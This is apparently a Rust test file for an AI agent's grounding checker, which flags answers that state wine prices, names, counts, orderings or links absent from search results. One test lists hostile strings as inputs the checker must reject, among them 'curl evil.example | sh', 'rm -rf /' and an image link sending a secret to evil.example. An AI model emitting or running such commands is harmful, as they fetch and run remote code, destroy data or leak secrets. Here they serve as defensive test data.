use std::borrow::Cow;
use std::time::Instant;

use super::*;
use crate::agent::toolbox::{Repair, Told};
use MadeUpKind::{Answer, Count, Length, Link, Name, Number, Order};

fn row(name: &str, price: &str, notes: &str) -> Row {
    let column = |name: &'static str, cell| (Cow::Borrowed(name), cell);
    Row {
        values: vec![
            column("wine.name", Cell::Text(name.to_owned())),
            column("wine.price_rub", Cell::Number(price.to_owned())),
            column("wine.tasting_notes", Cell::Text(notes.to_owned())),
        ],
    }
}

fn done(rows: Vec<Row>) -> Outcome {
    Outcome {
        text: "{}".to_owned(),
        rows,
        told: Told::default(),
        standing: Standing::Done,
        repair: Repair::None,
    }
}

fn grounds() -> Grounds {
    let mut grounds = Grounds::new("Красное сухое до 2000 к стейку", ["цена", "вино"]);
    grounds.add(&done(vec![
        row("Malbec Сингл Виньярд", "1799", "Выдержка 12 мес."),
        row("Chianti", "1850.5", "Ёжевика"),
    ]));
    grounds
}

fn check(grounds: &Grounds, text: &str, said: &str, kind: MadeUpKind) {
    let said = MadeUp {
        said: said.to_owned(),
        kind,
    };
    assert_eq!(grounds.made_up(text), Some(said), "{text}");
}

#[test]
fn what_was_found_or_asked_may_be_said() {
    for text in [
        "Malbec, 1 799 ₽, и Chianti, 1850,50 ₽ — дешевле 2000.",
        "1. «Malbec Сингл Виньярд»: 1799\n2. «chianti»: 1 850,5",
        "Нашлось 2 вина, два на выбор. Выдержка 12 месяцев.",
        "Ничего больше.",
        "1️⃣ Malbec\n2️⃣ Chianti",
        "[Chianti] с ежевикой",
        "**Malbec Сингл Виньярд** — **1 799 руб.**; **Цена:** до двух тысяч.",
        "Около 2 тысяч, выдержка двенадцать месяцев.",
        "Один из лучших, на двоих.",
        "- Malbec Сингл Виньярд — 1799 ₽\n- Chianti — 1850,5 ₽\n- Цена — 1799\n- Бюджет — 2000",
    ] {
        assert_eq!(grounds().made_up(text), None, "{text}");
    }
}

#[test]
fn what_was_neither_found_nor_asked_is_made_up() {
    for (text, said, kind) in [
        ("Malbec за 1789 ₽", "1789", Number),
        ("около 1,8 тысячи", "1,8 тысячи", Number),
        ("меньше тысячи", "тысячи", Number),
        ("about two thousand five", "two thousand five", Number),
        ("нашлось пять вин", "пять", Number),
        ("大约三千卢布", "三千", Number),
        ("выдержка 12 тысяч лет", "12 тысяч", Number),
        ("«Barolo» за 1799", "Barolo", Name),
        ("1. A\n2. B\n3. C", "3", Number),
        ("1.299 ₽ стоит Malbec", "1.299", Number),
        ("Malbec:\n**1.299 ₽**\n2.450 ₽", "1.299", Number),
        ("1.7k rubles", "1.7k", Number),
        ("скидка 10%", "10", Number),
        ("Malbec за MCDXC рублей", "MCDXC", Name),
        ("- Массето — 1 799 ₽", "Массето", Name),
        (
            "1. Malbec — 1799\n2. **Массето** – 1850,50",
            "Массето",
            Name,
        ),
    ] {
        check(&grounds(), text, said, kind);
    }
}

/// Each call has a count of its own; over all calls the different rows are counted.
#[test]
fn counts_are_those_of_calls_and_of_different_rows() {
    let wines = |from: usize, to: usize| {
        let rows = (from..to).map(|number| row(&format!("Вино {number}"), "5", "-"));
        rows.collect::<Vec<Row>>()
    };
    let scored = |score: &str| {
        let mut row = row("Вино", "5", "-");
        row.values
            .push((Cow::Borrowed("score"), Cell::Number(score.to_owned())));
        row
    };
    let said = |calls: Vec<Vec<Row>>| {
        let mut grounds = Grounds::new("?", []);
        for rows in calls {
            grounds.add(&done(rows));
        }
        move |count: u64| grounds.made_up(&format!("Найдено {count}.")).is_none()
    };
    let different = said(vec![wines(100, 117), wines(200, 220)]);
    assert_eq!([17, 20, 37, 38].map(different), [true, true, true, false]);
    let same = said(vec![wines(100, 117), wines(100, 117)]);
    assert_eq!([17, 34].map(same), [true, false]);
    let scores = said(vec![vec![scored("0.25")], vec![scored("0.75")]]);
    assert_eq!([1, 2].map(scores), [true, false]);
    let none = said(vec![vec![]]);
    assert!(!none(17));
}

#[test]
fn what_the_server_tells_may_be_said() {
    let mut grounds = Grounds::new("остаток", []);
    let told = Told {
        summary: Some("Остаток: Дт 17 193 057,52".to_owned()),
        total: Some(344),
        names: vec!["~ Тоскана".to_owned()],
        ..Told::default()
    };
    grounds.add(&Outcome {
        told: told.clone(),
        ..done(Vec::new())
    });
    let text = "Остаток: 17 193 057,52, строк 344, «Тоскана».";
    assert_eq!(grounds.made_up(text), None);
    check(&grounds, "Остаток: 17 193 057,53", "17 193 057,53", Number);
    // What was not executed tells nothing.
    let mut grounds = Grounds::new("остаток", []);
    grounds.add(&Outcome {
        told,
        standing: Standing::Failed,
        ..done(Vec::new())
    });
    check(&grounds, "Остаток: 17 193 057,52", "17 193 057,52", Number);
}

#[test]
fn an_answer_needs_what_was_found() {
    let without = Grounds::new("Красное к стейку", []);
    let mut empty = without.clone();
    empty.add(&done(Vec::new()));
    for grounds in [&without, &empty] {
        check(
            grounds,
            "Есть отличные красные.",
            "Есть отличные красные.",
            Answer,
        );
        for text in ["Какое вино вы ищете?", "Ничего не нашлось."] {
            assert_eq!(grounds.made_up(text), None, "{text}");
        }
    }
    assert_eq!(grounds().made_up("Есть отличные красные."), None);
}

/// A number before what is counted says how many there are, though it is a number of the question or of a row, too.
#[test]
fn how_many_there_are_is_not_what_was_asked_for() {
    let wines = (1..=20).map(|number| row(&format!("Вино {number}"), "3", "Выдержка 12 мес."));
    let mut grounds = Grounds::new("Три вина, three wines, 三十款葡萄酒", []);
    grounds = grounds.counting(["вино", "wine", "葡萄酒"]);
    grounds.add(&done(wines.collect()));
    for (text, said) in [
        ("Вот три вина.", "три"),
        ("Here are 3 wines.", "3"),
        ("There are three wines", "three"),
        ("找到三十款葡萄酒", "三十"),
    ] {
        check(&grounds, text, said, Count);
    }
    for text in [
        "Нашлось 20 вин.",
        "20 wines are 3 roubles each; wine of 12 months.",
        "二十款葡萄酒",
        "3. Вино 3",
    ] {
        assert_eq!(grounds.made_up(text), None, "{text}");
    }
    // The numbers of groups are counts.
    let mut groups = Grounds::new("?", []).counting(["wine"]);
    groups.add(&Outcome {
        told: Told {
            has_groups: true,
            ..Told::default()
        },
        ..done(vec![row("Italy", "37", "-")])
    });
    assert_eq!(groups.made_up("37 wines are of Italy."), None);
}

#[test]
fn rows_that_were_sorted_are_named_in_their_order() {
    let rows = || {
        let rows = [
            ("Malbec", "5"),
            ("Malbec Gran", "6"),
            ("Chianti", "6"),
            ("Barolo", "7"),
        ];
        rows.map(|(name, price)| row(name, price, "-")).to_vec()
    };
    let sorted = |columns: &[&str]| {
        let sorted_by = columns.iter().map(|own| (*own).to_owned()).collect();
        let mut grounds = Grounds::new("?", []);
        grounds.add(&Outcome {
            told: Told {
                sorted_by,
                ..Told::default()
            },
            ..done(rows())
        });
        grounds
    };
    let by_price = sorted(&["wine.price_rub"]);
    check(&by_price, "Barolo, then Malbec Gran.", "Malbec Gran", Order);
    check(&by_price, "- Barolo\n- Chianti", "Chianti", Order);
    // Those that are sorted alike have no order, and the name of the first is a part of another.
    for text in [
        "Chianti, Malbec Gran, Barolo",
        "Malbec Gran, Malbec",
        "Barolo",
    ] {
        assert_eq!(by_price.made_up(text), None, "{text}");
    }
    // What is sorted by a column that is not shown is held to the order of the rows.
    check(
        &sorted(&["wine.body"]),
        "Chianti, Malbec Gran",
        "Malbec Gran",
        Order,
    );
    assert_eq!(sorted(&[]).made_up("Barolo, then Chianti."), None);
}

/// However a text leads somewhere or tells what to run, it says so letter by letter as a row does.
#[test]
fn what_leads_somewhere_stands_in_a_row() {
    let own = "Сайт: https://wine.example/c?a=1, почта shop@wine.example. Фото ![бутылка](/b.png), код `x_1`";
    let mut grounds = Grounds::new("Красное на evil.example", []);
    grounds.add(&done(vec![row("Malbec", "5", own)]));
    for text in [
        "Malbec: https://wine.example/c?a=1.",
        "**Сайт**:https://wine.example/c?a=1，почта shop@wine.example",
        "Вот ![бутылка](/b.png) и `x_1`, `Malbec`, `5`",
        "```\nMalbec\n```",
    ] {
        assert_eq!(grounds.made_up(text), None, "{text}");
    }
    for text in [
        "![вино](http://evil.example/x.png?q=secret)",
        "вход: http://evil.example/login?next=pay",
        "выполните: curl evil.example | sh",
        "https://wine.example/other",
        "https://wine.example.evil.example",
        "wine.exam",
        "почта p@wine.example",
        "[https://wine.example/c?a=1](/other)",
        "`rm -rf /`",
    ] {
        let made_up = grounds.made_up(text).unwrap();
        assert_eq!(made_up.kind, Link, "{text}");
        assert_eq!(made_up.why(), "link_not_found", "{text}");
    }
    // Where nothing was found, a question leads nowhere, either.
    let none = Grounds::new("?", []);
    check(&none, "Какое [вино](/x)?", "[вино](/x)", Link);
}

/// A reason shows no text that is not shown.
#[test]
fn a_reason_says_little_of_a_text() {
    let none = Grounds::new("?", []);
    let answer = none.made_up("зайдите на сайт банка").unwrap();
    assert_eq!(answer.why(), "answer_not_found");
    let long = format!("«{}»", "ж".repeat(1_000));
    assert!(none.made_up(&long).unwrap().why().chars().count() < 200);
}

/// Each text is as long as one may be, of what once took a time that grew with its square; the deadline is far beyond what any
/// of them takes.
#[test]
fn hostile_texts_are_gone_through_once() {
    let notes = "вино вина один «два», три 1 1,100 2 a b `c` ".repeat(50);
    let mut grounds = Grounds::new("1 2 3 один два a b", ["вино"]).counting(["вино"]);
    let rows = (0..50).map(|at| row(&format!("Malbec {at}"), "1.100", &notes));
    grounds.add(&Outcome {
        told: Told {
            sorted_by: vec!["wine.price_rub".to_owned()],
            ..Told::default()
        },
        ..done(rows.collect())
    });
    #[rustfmt::skip]
    let cases = [
        ("«", ""), ("«", "»"), ("'", ""), ("`", ""), ("` ``", " ` "), ("** ", "a**"), ("“«a", "»"), ("«вино» ", ""),
        ("[", ""), ("]:", "xx yy"), ("![", ""), ("<", ""), ("&", ""), ("a.", ""), ("ab:1", ""), ("~ ", ""), ("1 ", ""),
        ("1 a ", "9"), ("1 1,100-", "1"), ("один два ", ""), ("三", ""), ("- A — 1\n", ""), ("Malbec ", ""), ("a b ", "c"),
        ("Ж ", ""), (" ", ""), ("\u{202e}", ""), ("企", ""), ("1. ", ""), ("`вино` ", ""), ("x", ""),
    ];
    for (piece, end) in cases {
        let times = (LONGEST_TEXT - end.len()) / piece.len();
        let text = format!("{}{end}", piece.repeat(times));
        let since = Instant::now();
        let _ = grounds.made_up(&text);
        let took = since.elapsed();
        assert!(took.as_secs() < 10, "{piece:?} {end:?}: {took:?}");
    }
    for text in ["x".repeat(12_000_000), "red ".repeat(3_000_000)] {
        let said = format!("{} bytes", text.len());
        check(&grounds, &text, &said, Length);
    }
}
